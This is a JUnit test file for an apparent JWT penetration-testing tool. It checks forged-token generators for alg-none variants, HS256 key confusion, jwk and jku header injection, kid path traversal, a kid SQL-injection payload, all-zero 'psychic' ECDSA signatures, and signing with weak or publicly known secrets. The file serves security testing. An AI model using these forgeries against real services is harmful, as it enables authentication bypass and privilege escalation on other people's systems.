package io.tokenworkbench.client.forge;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.ECDSAVerifier;
import com.nimbusds.jose.crypto.MACVerifier;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.crypto.RSASSAVerifier;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.JWTParser;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import io.tokenworkbench.client.inspector.WeakSecrets;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ForgeryTest {

    private static final Instant NOW = Instant.parse("2026-11-29T12:00:00Z");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static RSAKey key;
    private static String token;
    private final Forgery forgery = new Forgery(Clock.fixed(NOW, ZoneOffset.UTC));

    @BeforeAll
    static void signAToken() throws Exception {
        key = new RSAKeyGenerator(2048).keyID("k1").generate();
        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID("k1")
                .type(new JOSEObjectType("at+jwt")).build(),
                new JWTClaimsSet.Builder().subject("1").issuer("https://issuer").audience("api")
                        .claim("roles", List.of("user")).claim("iat", NOW.getEpochSecond() - 60)
                        .claim("exp", NOW.getEpochSecond() + 840).build());
        jwt.sign(new RSASSASigner(key));
        token = jwt.serialize();
    }

    private static ObjectNode header(String forged) throws Exception {
        return (ObjectNode) JSON.readTree(Base64.getUrlDecoder().decode(forged.split("\\.")[0]));
    }

    private static ObjectNode payload(String forged) throws Exception {
        return (ObjectNode) JSON.readTree(Base64.getUrlDecoder().decode(forged.split("\\.")[1]));
    }

    @Test
    void tamperedKeepsHeaderAndSignatureButGrantsAdmin() throws Exception {
        String derived = forgery.tampered(token);

        String[] original = token.split("\\.");
        String[] parts = derived.split("\\.");
        assertEquals(original[0], parts[0]);
        assertEquals(original[2], parts[2]);
        SignedJWT jwt = SignedJWT.parse(derived);
        assertEquals(List.of("admin"), jwt.getJWTClaimsSet().getStringListClaim("roles"));
        assertFalse(jwt.verify(new RSASSAVerifier(key.toPublicJWK())));
    }

    @Test
    void claimsAreSetAndRemovedUnderTheOldSignature() throws Exception {
        ObjectNode set = JSON.createObjectNode().put("sub", "2").putNull("aud");
        String derived = forgery.claims(token, set, List.of("roles"));

        ObjectNode payload = payload(derived);
        assertEquals("2", payload.get("sub").asText());
        assertFalse(payload.has("aud"));
        assertFalse(payload.has("roles"));
        assertEquals(token.split("\\.")[2], derived.split("\\.")[2]);
    }

    @Test
    void algNoneIsAnUnsecuredTokenWithTheSameClaims() throws Exception {
        var jwt = JWTParser.parse(forgery.algNone(token));

        assertInstanceOf(PlainJWT.class, jwt);
        assertEquals("1", jwt.getJWTClaimsSet().getSubject());
    }

    @Test
    void strippedHasNoSignature() {
        String derived = forgery.stripped(token);
        assertTrue(derived.endsWith("."));
        assertEquals(token.substring(0, token.lastIndexOf('.') + 1), derived);
    }

    @Test
    void otherKeyIsAValidSignatureByAStrangerUnderTheSameKid() throws Exception {
        SignedJWT jwt = SignedJWT.parse(forgery.otherKey(token));

        assertEquals("k1", jwt.getHeader().getKeyID());
        assertEquals(JWSAlgorithm.RS256, jwt.getHeader().getAlgorithm());
        assertFalse(jwt.verify(new RSASSAVerifier(key.toPublicJWK())));
        assertEquals("1", jwt.getJWTClaimsSet().getSubject());
    }

    @Test
    void audienceAndIssuerAreChanged() throws Exception {
        assertEquals(List.of("https://attacker.example"),
                SignedJWT.parse(forgery.audience(token, null)).getJWTClaimsSet().getAudience());
        assertEquals("https://evil", SignedJWT.parse(forgery.issuer(token, "https://evil")).getJWTClaimsSet()
                .getIssuer());
    }

    @Test
    void anOpaqueTokenCannotBeForgedFrom() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> forgery.tampered("opaque-token"));
        assertTrue(e.getMessage().contains("not a JWS"), e.getMessage());
    }

    @Test
    void expiredIsProperlySignedByTheKnownKeyAndAnHourOld() throws Exception {
        SigningKey secret = SigningKey.secret("a known secret that is long enough for HS256");
        SignedJWT jwt = SignedJWT.parse(forgery.expired(token, secret, JWSAlgorithm.HS256));

        assertTrue(jwt.verify(new MACVerifier("a known secret that is long enough for HS256")));
        assertEquals(NOW.minusSeconds(3600), jwt.getJWTClaimsSet().getExpirationTime().toInstant());
        assertEquals(NOW.minusSeconds(3600 + 900), jwt.getJWTClaimsSet().getIssueTime().toInstant(),
                "issued the original lifetime before it expired");
        assertEquals("1", jwt.getJWTClaimsSet().getSubject());
    }

    @Test
    void resignWithAPrivateKeyTakesItsKid() throws Exception {
        ECKey ec = new ECKeyGenerator(Curve.P_256).keyID("mine").generate();
        SignedJWT jwt = SignedJWT.parse(forgery.resign(token, new SigningKey.Private(ec), null));

        assertEquals(JWSAlgorithm.ES256, jwt.getHeader().getAlgorithm());
        assertEquals("mine", jwt.getHeader().getKeyID());
        assertTrue(jwt.verify(new ECDSAVerifier(ec.toPublicJWK())));
    }

    @Test
    void keyConfusionSignsWithTheServersPublicKeyInEachPemForm() throws Exception {
        List<Forgery.Forged> forged = forgery.keyConfusion(token, new JWKSet(key.toPublicJWK()));

        assertEquals(4, forged.size(), "SPKI and PKCS#1, each with and without the final newline");
        String spki = Forgery.pemForms(key.toPublicJWK()).get("SPKI PEM") + "\n";
        assertTrue(spki.startsWith("-----BEGIN PUBLIC KEY-----\nMIIBIjAN"), spki);
        SignedJWT first = SignedJWT.parse(forged.getFirst().token());
        assertEquals(JWSAlgorithm.HS256, first.getHeader().getAlgorithm());
        assertEquals("k1", first.getHeader().getKeyID());
        assertTrue(first.verify(new MACVerifier(spki.getBytes(StandardCharsets.US_ASCII))));
        assertTrue(forged.get(2).label().contains("PKCS#1"), forged.get(2).label());
        assertTrue(Forgery.pemForms(key.toPublicJWK()).get("PKCS#1 PEM").startsWith("-----BEGIN RSA PUBLIC KEY-----\nMIIBCgKCAQEA"));
        assertTrue(forged.getFirst().label().startsWith("key-confusion: "));
    }

    @Test
    void keyConfusionNeedsAnAsymmetricServerKey() {
        assertThrows(IllegalArgumentException.class, () -> forgery.keyConfusion(token, new JWKSet()));
    }

    @Test
    void jwkHeaderEmbedsTheKeyThatVerifiesIt() throws Exception {
        SignedJWT jwt = SignedJWT.parse(forgery.jwkHeader(token).token());

        JWK embedded = jwt.getHeader().getJWK();
        assertFalse(embedded.isPrivate(), "only the public half goes in the header");
        assertTrue(jwt.verify(new RSASSAVerifier(embedded.toRSAKey())));
        assertFalse(jwt.verify(new RSASSAVerifier(key.toPublicJWK())));
    }

    @Test
    void jkuPointsAtTheAttackersKeySet() throws Exception {
        URI url = URI.create("http://127.0.0.1:9/jwks/x.json");
        SignedJWT jwt = SignedJWT.parse(forgery.jku(token, url).token());

        assertEquals(url, jwt.getHeader().getJWKURL());
        RSAKey published = forgery.attackerJwks().getKeyByKeyId(jwt.getHeader().getKeyID()).toRSAKey();
        assertTrue(jwt.verify(new RSASSAVerifier(published)));
    }

    @Test
    void kidTraversalIsSignedWithTheEmptyKey() throws Exception {
        String forged = forgery.kidTraversal(token).token();

        assertEquals("../../../../../../dev/null", header(forged).get("kid").asText());
        assertArrayEquals(hmac(new byte[64], forged), signature(forged),
                "HMAC with the empty key equals HMAC with a block of zeros (RFC 2104)");
    }

    @Test
    void kidInjectionIsSignedWithTheKeyTheInjectionSelects() throws Exception {
        String forged = forgery.kidInjection(token).token();

        assertTrue(header(forged).get("kid").asText().contains("' UNION SELECT '" + Forgery.INJECTED_KEY));
        assertArrayEquals(hmac(Forgery.INJECTED_KEY.getBytes(StandardCharsets.UTF_8), forged), signature(forged));
    }

    @Test
    void psychicSignatureIsAllZeros() throws Exception {
        String forged = forgery.psychic(token).token();

        assertEquals("ES256", header(forged).get("alg").asText());
        assertArrayEquals(new byte[64], signature(forged));
    }

    @Test
    void noneVariantsSpellNoneFourWays() throws Exception {
        List<Forgery.Forged> forged = forgery.noneVariants(token);

        assertEquals(List.of("none", "None", "NONE", "nOnE"), forged.stream().map(f -> {
            try {
                return header(f.token()).get("alg").asText();
            } catch (Exception e) {
                throw new AssertionError(e);
            }
        }).toList());
        assertTrue(forged.stream().allMatch(f -> f.token().endsWith(".")));
    }

    @Test
    void weakSecretsSignWithEveryListedSecretIncludingTheFastApiTutorials() throws Exception {
        List<Forgery.Forged> forged = forgery.weakSecrets(token);

        assertEquals(WeakSecrets.all().size(), forged.size());
        String fastapi = "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7";
        Forgery.Forged tutorial = forged.stream().filter(f -> f.label().contains(fastapi)).findFirst().orElseThrow();
        assertTrue(SignedJWT.parse(tutorial.token()).verify(new MACVerifier(fastapi)));
        Forgery.Forged shortOne = forged.stream().filter(f -> f.label().endsWith("'secret'")).findFirst().orElseThrow();
        assertArrayEquals(hmac("secret".getBytes(StandardCharsets.UTF_8), shortOne.token()), signature(shortOne.token()),
                "secrets shorter than 256 bits are signed too");
    }

    @Test
    void blankSecretIsTheEmptyKey() throws Exception {
        String forged = forgery.blankSecret(token).token();
        assertEquals("HS256", header(forged).get("alg").asText());
        assertArrayEquals(hmac(new byte[0], forged), signature(forged));
    }

    private static byte[] signature(String forged) {
        return Base64.getUrlDecoder().decode(forged.substring(forged.lastIndexOf('.') + 1));
    }

    private static byte[] hmac(byte[] key, String forged) throws Exception {
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(key.length == 0 ? new byte[64] : key, "HmacSHA256"));
        return mac.doFinal(forged.substring(0, forged.lastIndexOf('.')).getBytes(StandardCharsets.US_ASCII));
    }
}
